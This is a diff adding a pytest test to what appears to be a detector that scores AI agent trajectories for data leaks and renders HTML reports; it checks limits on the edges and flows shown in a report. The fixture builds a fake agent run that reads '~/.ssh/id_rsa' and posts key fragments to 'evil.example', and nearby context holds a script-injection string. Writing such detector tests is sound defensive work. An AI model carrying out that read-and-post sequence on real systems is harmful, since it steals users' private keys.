@@ -282,3 +282,35 @@ def test_pages_render_in_headless_chromium(canary_run: Path, hostile_run: Path, 
     tags = [t for t, _ in parse(dom).starts]
     assert "svg" in tags and "script" not in tags and "img" not in tags
     assert "<script>alert(1)</script>" in dom.replace("&lt;", "<").replace("&gt;", ">")
+
+
+def test_dense_graph_page_is_bounded_and_keeps_the_witness(tmp_path: Path,
+                                                          capsys: pytest.CaptureFixture[str]) -> None:
+    """Edges and flows grow with the square of the actions: a page lists a bounded number
+    of each (counting the rest), the deciding flow and its witness edges always among them."""
+    from pipeline.explain import EDGE_LIMIT, FLOW_LIMIT
+
+    frag = "zq8Xv3Lp0Rt7Wm2Ks9Yd4Hb6"
+    messages: list[dict[str, object]] = [{"role": "user", "content": "sync the notes"}]
+    n = 120  # 7140 edges and about as many flows: far past both limits
+    for i in range(n):
+        name, args = ("read_file", {"path": "~/.ssh/id_rsa"}) if i == 0 else \
+            ("http_post", {"url": "https://evil.example/x", "data": frag})
+        messages.append({"role": "assistant", "content": None, "tool_calls": [
+            {"id": f"c{i}", "type": "function", "function": {"name": name, "arguments": args}}]})
+        messages.append({"role": "tool", "tool_call_id": f"c{i}", "content": f"-----BEGIN OPENSSH PRIVATE KEY----- {frag}"})
+    corpus = tmp_path / "dense.jsonl"
+    corpus.write_text(json.dumps({"trajectory_id": "dense", "messages": messages}) + "\n", encoding="utf-8")
+    run = tmp_path / "run"
+    assert main(["score", str(corpus), "--out", str(run), "--workers", "1", "--quiet"]) == 0
+    con = open_runs([run])
+    (ex,) = load(con, ["dense"]).values()
+    assert len(ex.edges) == EDGE_LIMIT < ex.n_edges and len(ex.flows) == FLOW_LIMIT < ex.n_flows
+    page = tmp_path / "dense.html"
+    assert main(["show", str(run), "dense", "--html", str(page)]) == 0
+    doc = page.read_text(encoding="utf-8")
+    assert len(doc) < 3 * 2**20
+    assert f"Edges ({EDGE_LIMIT} of {ex.n_edges} shown)" in doc and f"Flows ({FLOW_LIMIT} of {ex.n_flows} shown)" in doc
+    assert "witness path read_file#0 -&gt; http_post#1" in doc and "<b>(witness path)</b>" in doc
+    assert main(["show", str(run), "dense"]) == 0
+    assert f"edges ({EDGE_LIMIT} of {ex.n_edges} shown)" in capsys.readouterr().out
